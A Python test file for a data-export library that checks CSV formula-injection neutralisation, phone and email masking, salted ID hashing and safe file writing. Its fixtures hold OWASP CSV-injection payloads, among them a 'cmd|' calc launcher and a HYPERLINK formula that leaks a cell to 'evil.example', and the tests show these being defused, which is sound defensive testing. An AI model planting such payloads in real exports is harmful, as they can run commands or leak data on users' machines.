"""Formula injection, masking and pseudonyms."""

from __future__ import annotations

import csv
import functools
import hashlib
import os
import random
import shutil
import subprocess
import sys
from pathlib import Path
from xml.etree import ElementTree

import numpy as np
import pandas as pd
import phonenumbers
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pandas.errors import InvalidIndexError

from connectly_nb import _phones, read_export
from connectly_nb.safety import (
    hash_ids,
    mask_columns,
    mask_phone,
    mask_text,
    neutralize,
    write_safe_csv,
)
from connectly_nb.schema import EXPORT_COLUMNS, TIMESTAMP_COLUMNS
from connectly_nb.widgets.dashboard import _free_text
from tests import reference_safety as reference
from tests.conftest import csv_text, row

# OWASP's CSV-injection payloads, and the characters it lists
OWASP = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", OWASP)
def test_neutralize_prefixes_every_owasp_payload(payload):
    out = neutralize(pd.Series([payload, "plain", None]))
    assert out.iloc[0] == "'" + payload.replace("\t=", "\t'=").replace("\r=", "\r'=")
    assert out.iloc[1] == "plain"
    assert pd.isna(out.iloc[2])


def test_a_formula_after_a_semicolon_tab_or_line_break_is_neutralised_too():
    # issue 14, item 5: read with ";" as separator, "Promo;=1+1;" has a cell "=1+1"
    cells = ["Promo;=1+1;", "a\t@SUM(1)", "x\n-2+3", "y\r\n+1", "a;b", "R$ 20; 5-10 off", "a=b"]
    assert neutralize(pd.Series(cells)).tolist() == [
        "Promo;'=1+1;",
        "a\t'@SUM(1)",
        "x\n'-2+3",
        "y\r\n'+1",
        "a;b",
        "R$ 20; 5-10 off",
        "a=b",
    ]


def test_phone_numbers_keep_their_plus_only_in_the_id_column():
    ids = pd.Series(["+5511987654321", "+abc", "+1 555", "-5511"])
    assert neutralize(ids, phone_ids=True).tolist() == [
        "+5511987654321",
        "'+abc",
        "'+1 555",
        "'-5511",
    ]
    assert neutralize(ids).iloc[0] == "'+5511987654321"


def test_saved_csv_is_neutral_readable_and_bom_encoded(write_export, tmp_path):
    ex = read_export(
        write_export(
            [
                row(
                    customer_external_id="+5511987654321",
                    campaign_name=OWASP[0],
                    error_msg=OWASP[4],
                ),
                row(customer_external_id="+5511987654322", campaign_name="Promoção"),
            ]
        )
    )
    path = write_safe_csv(ex, tmp_path / "out.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    assert [r["campaign_name"] for r in rows] == ["'" + OWASP[0], "Promoção"]
    assert rows[0]["error_msg"] == "'" + OWASP[4]
    assert rows[0]["customer_external_id"] == "+5511987654321"
    assert rows[0]["sent_at"] == "2024-05-10 20:13:50.682000"
    again = read_export(path)
    assert len(again.messages) == 2
    assert not (tmp_path / ".out.csv.partial").exists()


def test_mask_phone_keeps_country_area_and_last_four():
    masked = mask_phone(["+5511987654321", "+14155552671", "5.51199E+12", None, "ab"]).tolist()
    assert masked[0] == "+55 11 *****-4321"
    assert masked[1].startswith("+1 ")
    assert masked[1].endswith("2671")
    assert "415" not in masked[1]
    assert masked[2] == "*********12"
    assert pd.isna(masked[3])
    assert masked[4] == "**"  # short ids that are not phone numbers are hidden whole


def test_hash_ids_is_consistent_salted_and_hides_the_number(monkeypatch):
    a = hash_ids(["+5511987654321", "+5511987654321", "+5511000000000"], salt="s1")
    assert a.iloc[0] == a.iloc[1] != a.iloc[2]
    assert a.iloc[0].startswith("c_")
    assert "5511" not in a.iloc[0]
    assert hash_ids(["+5511987654321"], salt="s2").iloc[0] != a.iloc[0]
    monkeypatch.setenv("CONNECTLY_NB_SALT", "s1")
    assert hash_ids(["+5511987654321"]).iloc[0] == a.iloc[0]


def test_write_safe_csv_never_writes_through_a_planted_link(sample, tmp_path, planted_links):
    # issue 14, item 3: a fixed ".out.csv.partial" opened with open("wb") followed a symlink
    target = tmp_path / "out.csv"
    check = planted_links(target)
    write_safe_csv(sample.messages.head(5), target)
    check()
    assert target.read_bytes().startswith(b'\xef\xbb\xbf"customer_external_id",')


# --------------------------------------------------------------------------- in a real spreadsheet
# issue 14, item 5: header names were written as they were, and in semicolon locales
# "Promo;=1+1;" split into a live formula. LibreOffice reads the saved file here.

SOFFICE = shutil.which("soffice")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A2;"click")',
    "Promo;=1+1;",
    "Promo\t=2+2",
    ";=3+3",
    "a,=4+4",
    'q" ;=5+5',
    'x",=6+6',
    "multi\n=7+7",
    "-8+8",
    "@SUM(9+9)",
    "+10+10",
    "=11+11",
    "\t=12+12",
    "x;@SUM(13);+1+1",
]


def need_soffice() -> str:
    if SOFFICE is None:
        message = "LibreOffice is not installed (apt-get install -y libreoffice-calc)"
        if os.environ.get("CI") == "true":
            pytest.fail(message + "; CI=true: the spreadsheet test must run")
        pytest.skip(message)
    return SOFFICE


def formulas_in(paths: list[Path], separator: str, work: Path) -> dict[str, list[str]]:
    """Open each CSV in LibreOffice (UTF-8, '"' quotes) and list the cells read as formulas."""
    out = work / f"out{ord(separator)}"
    subprocess.run(
        [
            need_soffice(),
            f"-env:UserInstallation={(work / 'lo-profile').as_uri()}",
            "--headless",
            f"--infilter=CSV:{ord(separator)},34,76,1",
            "--convert-to",
            "fods",
            "--outdir",
            str(out),
            *map(str, paths),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    ns = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
    found = {}
    for path in paths:
        tree = ElementTree.parse(out / f"{path.stem}.fods")
        found[path.stem] = [
            cell.get(f"{ns}formula")
            for cell in tree.iter(f"{ns}table-cell")
            if cell.get(f"{ns}formula") is not None
        ]
    return found


def test_libreoffice_finds_no_formula_in_a_saved_csv(write_export, tmp_path):
    need_soffice()
    rows = []
    for i, text in enumerate(HOSTILE):
        rows.append(
            row(
                customer_external_id=f"+55119876543{i:02d}",
                campaign_name=text,
                cnt_session_id=text,
                error_msg=text,
                business_id=text,
                hostile=text,
            )
        )
    columns = ["hostile", *EXPORT_COLUMNS]  # an extra column first, so a payload starts a line
    text = csv_text(rows, columns=columns).replace(
        "hostile", '"=HYPERLINK(""http://e.example"")"', 1
    )
    ex = read_export(write_export(text=text))
    assert ex.messages.columns[15].startswith("=HYPERLINK")
    safe = write_safe_csv(ex, tmp_path / "safe.csv")
    control = tmp_path / "control.csv"  # the same cells written plainly: formulas expected
    ex.messages[[*EXPORT_COLUMNS, ex.messages.columns[15]]].to_csv(control, index=False)
    for separator in (",", ";", "\t"):
        found = formulas_in([safe, control], separator, tmp_path)
        assert found["control"], f"no formula seen in the plain file with {separator!r}"
        assert found["safe"] == [], f"formulas with {separator!r} as separator: {found['safe']}"


# --------------------------------------------------------------------------- masking, round 2
# issue 14, items 9-11


def hidden_digits(original: str, masked: str) -> int:
    return sum(ch.isdigit() for ch in original) - sum(ch.isdigit() for ch in masked)


@pytest.mark.parametrize(
    ("number", "masked"),
    [
        ("+999123456789", "***********89"),  # no such country: phonenumbers cannot parse it
        ("+0123456789", "*********89"),
        ("+4930123", "******23"),  # valid but short: only 3 digits would have been hidden
        ("+29812345", "*******45"),  # +298 12345: only 1 digit would have been hidden
    ],
)
def test_numbers_that_cannot_be_masked_well_get_the_strict_mask(number, masked):
    assert mask_phone([number]).iloc[0] == masked


def test_every_countrys_numbers_hide_at_least_five_digits():
    import phonenumbers

    numbers = []
    for region in sorted(phonenumbers.SUPPORTED_REGIONS):
        for kind in (phonenumbers.PhoneNumberType.MOBILE, phonenumbers.PhoneNumberType.FIXED_LINE):
            example = phonenumbers.example_number_for_type(region, kind)
            if example is not None:
                numbers.append(
                    phonenumbers.format_number(example, phonenumbers.PhoneNumberFormat.E164)
                )
    assert len(numbers) > 400
    masked = mask_phone(numbers)
    few = [(n, m) for n, m in zip(numbers, masked, strict=True) if hidden_digits(n, m) < 5]
    assert few == []


def test_mask_text_masks_phone_numbers_and_emails_inside_free_text():
    from connectly_nb.safety import mask_text

    texts = pd.Series(
        [
            "number +5511987654321 is not on WhatsApp",
            "call +1 (415) 555-2671 today",
            "https://wa.me/5511987654321?text=oi",
            "https://x.example/?phone=%2B5511987654321&utm=1",
            "write to ana.silva+promo@gmail.com or joao%40empresa.com.br",
            "+999123456789 is not a country",
            None,
            "sendout 5f0c1d7e-0000-4000-8000-000000000001: 20% off, R$ 50, 2024-05-10",
        ],
        index=list("abcdefgh"),
    )
    out = mask_text(texts)
    assert out.index.tolist() == list("abcdefgh")
    joined = " ".join(v for v in out if isinstance(v, str))
    for secret in ("987654321", "4155552671", "555-2671", "ana.silva", "joao", "999123456"):
        assert secret not in joined.replace(" ", ""), secret
    assert out["a"] == "number +55 11 *****-4321 is not on WhatsApp"
    assert out["e"] == "write to ***@gmail.com or ***%40empresa.com.br"
    assert pd.isna(out["g"])
    assert out["h"] == texts["h"]  # ids, percentages, prices and dates are not phone numbers


def test_hash_ids_without_a_salt_uses_a_random_one_and_says_so(monkeypatch):
    from connectly_nb.exceptions import PrivacyWarning

    monkeypatch.delenv("CONNECTLY_NB_SALT", raising=False)
    ids = ["+5511987654321", "+5511987654321"]
    with pytest.warns(PrivacyWarning, match="CONNECTLY_NB_SALT"):
        first = hash_ids(ids)
    assert first.iloc[0] == first.iloc[1]  # consistent within the process
    unsalted = "c_" + hashlib.sha256(b"+5511987654321").hexdigest()[:12]
    assert first.iloc[0] != unsalted  # a table of hashed numbers does not reverse it
    with pytest.warns(PrivacyWarning):
        assert hash_ids(ids, salt="").iloc[0] == first.iloc[0]  # an empty salt is no salt
    other = subprocess.run(
        [
            sys.executable,
            "-W",
            "ignore",
            "-c",
            "from connectly_nb.safety import hash_ids; print(hash_ids(['+5511987654321'])[0])",
        ],
        capture_output=True,
        text=True,
        check=True,
        env={k: v for k, v in os.environ.items() if k != "CONNECTLY_NB_SALT"},
    ).stdout.strip()
    assert other.startswith("c_")
    assert other != first.iloc[0]  # another process, another salt


# --------------------------------------------------------------------------- fast = straightforward
# "Save filtered CSV" took 34 s on 300,000 rows: masking, neutralising and writing are now
# vectorised (one phonenumbers call per group of numbers that phonenumbers treats alike,
# Arrow's regex engine to find formula cells, the CSV written in chunks). The output must
# not change: tests/reference_safety.py is the code as it was.

CALLING_CODES = sorted(phonenumbers.COUNTRY_CODE_TO_REGION_CODE)
HOSTILE_TEXT = [*"=+-@\t\r\n;,'\" aé9+%", "%2B", "%40", "+55", "@x.com", "\u00a0", "٣"]


def hostile_text(extra: str = "", size: int = 8) -> st.SearchStrategy[str]:
    return st.lists(st.sampled_from(HOSTILE_TEXT + list(extra)), max_size=size).map("".join)


def example_numbers() -> list[str]:
    """Every region's example numbers of every type, in E.164."""
    numbers = set()
    for region in phonenumbers.SUPPORTED_REGIONS:
        for kind in range(12):  # every PhoneNumberType but UNKNOWN
            example = phonenumbers.example_number_for_type(region, kind)
            if example is not None:
                numbers.add(
                    phonenumbers.format_number(example, phonenumbers.PhoneNumberFormat.E164)
                )
    return sorted(numbers)


def neighbours(numbers: list[str], seed: int = 14) -> list[object]:
    """The numbers, numbers sharing their first digits (same group or not), and odd ids."""
    rng = random.Random(seed)
    out: list[object] = []
    for number in numbers:
        out.append(number)
        for _ in range(4):
            keep = rng.randint(2, len(number) - 1)
            size = len(number) - keep + rng.choice((-2, -1, 0, 0, 0, 0, 1, 2))
            out.append(number[:keep] + "".join(rng.choices("0123456789", k=max(size, 0))))
    out += [
        "+5511987654321\n",  # the old check let a final line break through
        "+55 11 98765 4321",
        "+٥٥١١٩٨٧٦٥٤٣٢١",  # Arabic-Indic digits
        "+0123456789",
        "+999123456789",
        "5.51199E+12",
        "+5511987654321" * 2,
        "",
        " ",
        None,
        float("nan"),
        5511987654321,
        "+5590987654321",  # a Brazilian national prefix (90): parsed differently
        "+54 9 11 1234 5678",
        "+5491112345678",
    ]
    return out


def test_mask_phone_matches_the_straightforward_code_for_every_countrys_numbers():
    values = neighbours(example_numbers())
    assert len(values) > 4000
    fast = mask_phone(values)
    pd.testing.assert_series_equal(fast, reference.mask_phone(values))
    # shared groups were used: far fewer phonenumbers calls than numbers
    series = pd.Series(values * 2, index=range(10, 10 + 2 * len(values)), name="ids")
    pd.testing.assert_series_equal(mask_phone(series), reference.mask_phone(series))


@st.composite
def phone_ids(draw: st.DrawFn) -> object:
    kind = draw(st.sampled_from(["e164", "e164", "e164", "text", "other"]))
    if kind == "e164":
        code = str(draw(st.sampled_from(CALLING_CODES)))
        size = draw(st.integers(max(0, 6 - len(code)), 15 - len(code) + 1))
        return "+" + code + draw(st.text("0123456789", min_size=size, max_size=size))
    if kind == "text":
        return draw(st.text(st.sampled_from(list("+0123456789 ")), max_size=18))
    return draw(st.one_of(st.none(), st.just(float("nan")), st.integers(), st.text(max_size=5)))


@given(st.lists(phone_ids(), max_size=40))
def test_mask_phone_matches_the_straightforward_code_on_any_ids(ids):
    try:
        expected = reference.mask_phone(ids)
    except InvalidIndexError:  # None and NaN both present: Series.map fails, then and now
        with pytest.raises(InvalidIndexError):
            mask_phone(ids)
        return
    pd.testing.assert_series_equal(mask_phone(ids), expected)


cells = st.one_of(
    hostile_text(),
    st.text(max_size=6),
    st.none(),
    st.just(float("nan")),
    st.integers(-5, 5),
    st.floats(allow_nan=True),
    st.booleans(),
    st.binary(max_size=3),
)
texts = st.one_of(hostile_text(), st.none())


@given(st.lists(cells, max_size=30), st.booleans())
def test_neutralize_matches_the_straightforward_code_on_any_cells(values, phone_ids):
    series = pd.Series(values, dtype=object, index=[f"r{i % 7}" for i in range(len(values))])
    fast = neutralize(series, phone_ids=phone_ids)
    pd.testing.assert_series_equal(fast, reference.neutralize(series, phone_ids=phone_ids))
    assert [type(v) for v in fast] == [type(v) for v in reference.neutralize(series)]


@given(st.lists(texts, max_size=30), st.sampled_from(["str", "object", "category"]))
def test_neutralize_matches_the_straightforward_code_for_text_and_categories(values, dtype):
    series = pd.Series(values, dtype=dtype, name="campaign_name")
    for phone_ids in (False, True):
        pd.testing.assert_series_equal(
            neutralize(series, phone_ids=phone_ids),
            reference.neutralize(series, phone_ids=phone_ids),
        )


free_text = st.lists(
    st.one_of(
        st.sampled_from(
            [
                "+5511987654321",
                "+55 11 98765-4321",
                "%2B5521912345678",
                "5511987654321",
                "+1 (415) 555-2671",
                "＋5511987654321",  # a full-width plus: phonenumbers reads it
                "ana.silva+promo@gmail.com",
                "joao%40empresa.com.br",
                "2024-05-10 20:20:00.123456",
                '[{"id": "b1", "name": "Sim", "ts": "2024-05-10 20:20:00"}]',
                "tel:+5511987654321",
            ]
        ),
        hostile_text("0123456789", size=12),
    ),
    max_size=5,
).map(" ".join)


@given(st.lists(st.one_of(free_text, st.none(), st.just(float("nan")), st.integers()), max_size=12))
def test_mask_text_matches_the_straightforward_code_on_any_text(values):
    series = pd.Series(values, dtype=object)
    pd.testing.assert_series_equal(mask_text(series), reference.mask_text(series))
    as_text = pd.Series([v for v in values if not isinstance(v, int)], dtype="str")
    pd.testing.assert_series_equal(mask_text(as_text), reference.mask_text(as_text))


def hostile_messages(sample) -> pd.DataFrame:
    """The sample's messages with hostile text, blanks, odd times and extras of every type."""
    m = sample.messages.head(60).copy()
    n = len(m)
    rng = random.Random(7)
    m["campaign_name"] = pd.Categorical(
        [rng.choice(["=SUM(1)", "Promo;=1+1", "ok", None]) for _ in range(n)]
    )
    m["error_msg"] = pd.Series(
        [rng.choice([*HOSTILE, None, "", "fine", "+5511987654321 no"]) for _ in range(n)],
        dtype="str",
        index=m.index,
    )
    m.loc[m.index[:5], "customer_external_id"] = ["-1", "+12", "=1", None, "+5511987654321\n"]
    m["sent_at"] = m["sent_at"].dt.tz_convert("America/Sao_Paulo")
    m.loc[m.index[3], "read_at"] = pd.Timestamp("2024-05-10 23:59:59.999999", tz="UTC")
    m["=extra"] = [rng.choice(["@a", 1, 2.5, None, float("nan"), True, b"=x"]) for _ in range(n)]
    m["count"] = np.arange(n)
    m["ratio"] = np.linspace(0, 1, n)
    m.loc[m.index[::4], "ratio"] = np.nan
    m["flag"] = np.arange(n) % 2 == 0
    m["when"] = pd.Timestamp("2024-01-01", tz="UTC") + pd.to_timedelta(np.arange(n), unit="h")
    m["nullable"] = pd.array([1, None] * (n // 2) + [3] * (n % 2), dtype="Int64")
    m["_private"] = "=hidden"
    return m.drop(columns=["cnt_session_id"])  # a missing export column is written blank


@pytest.mark.parametrize("chunk", [1, 7, 1000, 20_000])
def test_write_safe_csv_writes_what_the_straightforward_code_wrote(
    sample, tmp_path, monkeypatch, chunk
):
    monkeypatch.setattr("connectly_nb.safety.CHUNK_ROWS", chunk)
    m = sample.messages if chunk >= 1000 else sample.messages.sample(40, random_state=chunk)
    frames = {
        "hostile": hostile_messages(sample),
        "masked": m.assign(customer_external_id=mask_phone(m["customer_external_id"])),
        "messages": m,
        "empty": m.head(0),
        "one": m.head(1),
    }
    if chunk == 1000:
        frames["export"] = sample
    for name, data in frames.items():
        fast = write_safe_csv(data, tmp_path / f"{name}.csv").read_bytes()
        assert fast == reference.write_safe_csv(data, tmp_path / f"{name}_ref.csv").read_bytes(), (
            name
        )


TIMES = {
    "s": ["2024-05-10T20:13:50", None, "1001-01-01", "9999-12-31T23:59:59"],
    "ms": ["2024-05-10T20:13:50.682", None, "1000-01-01T00:00:00.001"],
    "us": ["2024-05-10T20:13:50.682001", None, "1970-01-01", "0999-12-31T23:59:59.999999"],
    "ns": ["2024-05-10T20:13:50.682001234", None, "1969-12-31T23:59:59.500000500"],
}


@pytest.mark.parametrize("unit", list(TIMES))
def test_times_are_written_as_strftime_wrote_them_whatever_the_unit_and_year(tmp_path, unit):
    # numpy's ISO text stands in for strftime for 4-digit years in s, ms or us; else strftime
    naive = np.array([np.datetime64(t) if t else np.datetime64("NaT") for t in TIMES[unit]])
    times = pd.Series(naive.astype(f"M8[{unit}]")).dt.tz_localize("UTC")
    frame = pd.DataFrame(dict.fromkeys(TIMESTAMP_COLUMNS, times.dt.tz_convert("Asia/Kolkata")))
    frame["sent_at"] = times
    fast = write_safe_csv(frame, tmp_path / "fast.csv").read_bytes()
    assert fast == reference.write_safe_csv(frame, tmp_path / "ref.csv").read_bytes()


def test_write_safe_csv_reports_each_chunk_and_leaves_nothing_when_stopped(
    sample, tmp_path, monkeypatch
):
    monkeypatch.setattr("connectly_nb.safety.CHUNK_ROWS", 1000)
    n = len(sample.messages)
    seen: list[tuple[int, int]] = []
    write_safe_csv(
        sample, tmp_path / "out.csv", on_chunk=lambda done, total: seen.append((done, total))
    )
    assert seen == [(min(i, n), n) for i in range(1000, n + 1000, 1000)]
    (tmp_path / "kept.csv").write_text("before")

    def stop(done: int, total: int) -> None:
        if done > 1000:
            raise KeyboardInterrupt  # the kernel interrupted mid-way

    with pytest.raises(KeyboardInterrupt):
        write_safe_csv(sample, tmp_path / "kept.csv", on_chunk=stop)
    assert (tmp_path / "kept.csv").read_text() == "before"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["kept.csv", "out.csv"]


def test_write_safe_csv_shows_a_progress_bar_when_asked(sample, tmp_path, capsys):
    write_safe_csv(sample, tmp_path / "out.csv", progress=True)
    assert "saving CSV" in capsys.readouterr().err
    write_safe_csv(sample, tmp_path / "quiet.csv")  # small, and nobody watching: no bar
    assert capsys.readouterr().err == ""


def test_many_numbers_cost_one_phonenumbers_call_per_group(monkeypatch):
    # 34 s for 300,000 rows: phonenumbers parsed every distinct id (about 0.1 ms each)
    calls = []
    parse = phonenumbers.parse
    monkeypatch.setattr(phonenumbers, "parse", lambda *a, **k: calls.append(a) or parse(*a, **k))
    rng = random.Random(5)
    ids = [f"+55{rng.choice(['11', '21'])}9{rng.randrange(10**8):08d}" for _ in range(3000)]
    masked = mask_phone(ids)
    assert len(calls) <= 40  # one per calling code, leading digits and length
    assert masked.str.fullmatch(r"\+55 (11|21) \*{5}-\d{4}").all()
    assert [m[-4:] for m in masked] == [i[-4:] for i in ids]
    calls.clear()
    mask_text(
        pd.Series([f'[{{"ts": "2024-05-10 20:{i % 60:02d}:00.{i:06d}"}}]' for i in range(500)])
    )
    assert calls == []  # no plus sign: phonenumbers' matcher has nothing to read


# --------------------------------------------------------------------------- mask_many = mask_one
# mask_many masks one number per group (calling code, the leading digits phonenumbers'
# patterns can test, length) and gives the others its shape. That is only acceptable if
# every value gets exactly the mask phonenumbers gives it alone: checked against the old
# code (tests/reference_safety.py), on every calling code, and shown able to fail.


def mismatches(values: list[object]) -> list[tuple[object, object, object]]:
    """(value, mask_many's mask, the old code's mask) wherever the two differ."""
    fast = _phones.mask_many(values)
    return [
        (v, fast[v], expected) for v in values if fast[v] != (expected := reference._mask_one(v))
    ]


def _metadata(code: int):
    region = phonenumbers.region_code_for_country_code(code)
    return phonenumbers.PhoneMetadata.metadata_for_region_or_calling_code(code, region)


@functools.cache
def national_starts(code: int) -> tuple[str, ...]:
    """Digits a national number of ``code`` may start with: its national prefix, the
    start of its example numbers and of its formats' fixed digits, zeros."""
    meta = _metadata(code)
    starts = {"", "0", "00", "1", "9"}
    if meta is not None:
        if meta.national_prefix:
            starts.add(meta.national_prefix)
        for region in phonenumbers.region_codes_for_country_code(code):
            for kind in range(12):
                example = phonenumbers.example_number_for_type(region, kind)
                if example is not None:
                    nsn = phonenumbers.national_significant_number(example)
                    starts.update(nsn[:k] for k in range(1, min(len(nsn), 6)))
        if code in phonenumbers.COUNTRY_CODES_FOR_NON_GEO_REGIONS:
            example = phonenumbers.example_number_for_non_geo_entity(code)
            if example is not None:
                nsn = phonenumbers.national_significant_number(example)
                starts.update(nsn[:k] for k in range(1, min(len(nsn), 6)))
    return tuple(sorted(starts))


def random_numbers(code: int, digits: int, count: int, rng: random.Random) -> list[str]:
    """``count`` numbers "+<code>..." of ``digits`` digits: uniform, or with a likely start."""
    cc = str(code)
    if digits <= len(cc):
        return ["+" + cc[:digits]] if digits else []
    starts = national_starts(code)
    out = []
    for i in range(count):
        start = rng.choice(starts) if i % 2 else ""
        rest = digits - len(cc) - len(start)
        if rest < 0:
            start, rest = start[: digits - len(cc)], 0
        out.append("+" + cc + start + "".join(rng.choices("0123456789", k=rest)))
    return out


CODES = sorted(phonenumbers.COUNTRY_CODE_TO_REGION_CODE)


@st.composite
def phone_like(draw: st.DrawFn) -> str:
    """A plus and digits: any calling code, a national prefix or likely start, odd lengths."""
    code = str(draw(st.sampled_from(CODES)))
    start = draw(st.sampled_from(national_starts(int(code))))
    digits = draw(st.integers(4, 17))  # 6-15 digits, and a little outside
    body = code + start
    if (more := digits - len(body)) > 0:
        body += draw(st.text("0123456789", min_size=more, max_size=more))
    return "+" + body[:digits]


@given(st.lists(phone_like(), min_size=1, max_size=60))
def test_mask_many_gives_every_phone_like_value_the_mask_it_gets_alone(values):
    assert mismatches(values) == []


@given(st.lists(phone_like(), min_size=1, max_size=20), st.data())
def test_mask_many_matches_whatever_numbers_share_a_group(values, data):
    # a group's members differ only past the digits the patterns test: vary those digits
    varied = []
    for v in values:
        keep = data.draw(st.integers(1, len(v) - 1))
        tail = data.draw(st.text("0123456789", min_size=len(v) - keep, max_size=len(v) - keep))
        varied += [v, v[:keep] + tail]
    assert mismatches(varied) == []


def every_calling_code(per_length: int, seed: int = 16) -> list[str]:
    rng = random.Random(seed)
    return [
        number
        for code in CODES
        for digits in range(6, 16)
        for number in random_numbers(code, digits, per_length, rng)
    ]


@pytest.mark.slow
def test_mask_many_matches_the_old_code_on_every_calling_code_and_length():
    # per calling code (all of phonenumbers' COUNTRY_CODE_TO_REGION_CODE), 200 numbers
    # of each length from 6 to 15 digits, half of them starting like real numbers
    values = every_calling_code(200)
    assert len(values) > 400_000
    assert mismatches(values) == []


def test_the_equality_check_catches_a_reading_too_shallow(monkeypatch):
    # the same check, on a mask_many that trusts the first digits only: it must fail
    real_plan = _phones._plan.__wrapped__

    def shallow(code: int) -> _phones._Plan | None:
        plan = real_plan(code)
        return plan and plan._replace(depth=0)

    monkeypatch.setattr(_phones, "_plan", shallow)
    values = [n for n in every_calling_code(20) if n[1:3] in ("44", "55", "49", "1")]
    assert len(mismatches(values)) > 50


HEADER_TEXT = st.sampled_from(["=cmd", "+x", "-1", "@a", "\tt", "\rr", "a;=b", "note", "é"])


@given(
    st.lists(st.one_of(hostile_text(size=10), st.sampled_from(HOSTILE), st.none()), min_size=9),
    st.lists(HEADER_TEXT, max_size=3, unique=True),
    st.booleans(),
    st.sampled_from([1, 3, 20_000]),
)
def test_write_safe_csv_writes_hostile_cells_and_headers_as_the_old_code(
    sample, tmp_path_factory, cells, headers, masked, chunk
):
    # formulas, ";=", tabs, CR, leading + - @ in text cells, in ids and in extra column
    # names; masked as the dashboard masks, or not: the same bytes as the old code
    m = sample.messages.head(9).copy()
    for column in ("campaign_name", "error_msg", "customer_external_id", "template_name"):
        if column in m:
            m[column] = pd.Series(cells[:9], index=m.index, dtype=object)
    for i, name in enumerate(headers):
        m[name] = cells[i : i + 9] + [None] * max(0, 9 - len(cells[i:]))
    if masked:
        m = m.assign(customer_external_id=mask_phone(m["customer_external_id"]))
        m = mask_columns(m, _free_text(m))
    folder = tmp_path_factory.mktemp("hostile")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("connectly_nb.safety.CHUNK_ROWS", chunk)
        fast = write_safe_csv(m, folder / "fast.csv").read_bytes()
    assert fast == reference.write_safe_csv(m, folder / "old.csv").read_bytes()
